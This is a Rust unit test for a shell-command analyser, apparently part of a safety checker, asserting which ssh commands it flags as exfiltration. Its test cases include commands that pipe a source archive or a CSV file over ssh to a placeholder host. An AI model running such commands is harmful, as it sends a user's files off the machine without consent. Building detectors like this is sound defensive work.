//! What is sent to a command on another machine.

use super::at;
use crate::reading::atoms::Category;
use crate::reading::disk::NoDisk;
use crate::reading::walk::command;

#[test]
fn what_a_pipe_brings_to_ssh_is_sent_away() {
    for (text, sent) in [
        ("tar c src | ssh h.example 'cat > x'", true),
        ("ssh h.example 'cat > x' < data.csv", true),
        ("cat data.csv | timeout 5 ssh h.example tee x", true),
        ("ssh h.example uptime", false),
        ("ssh h.example uptime < /dev/null", false),
        ("echo uptime | ssh h.example bash", false),
        ("tar c src | ssh h.example", true),
    ] {
        let reading = command(text, &at(), &NoDisk);
        let dangers = reading.atoms.iter().flat_map(|atom| &atom.dangers);
        let mut categories = dangers.map(|danger| danger.category);
        assert_eq!(
            categories.any(|one| one == Category::Exfiltration),
            sent,
            "{text}"
        );
    }
}
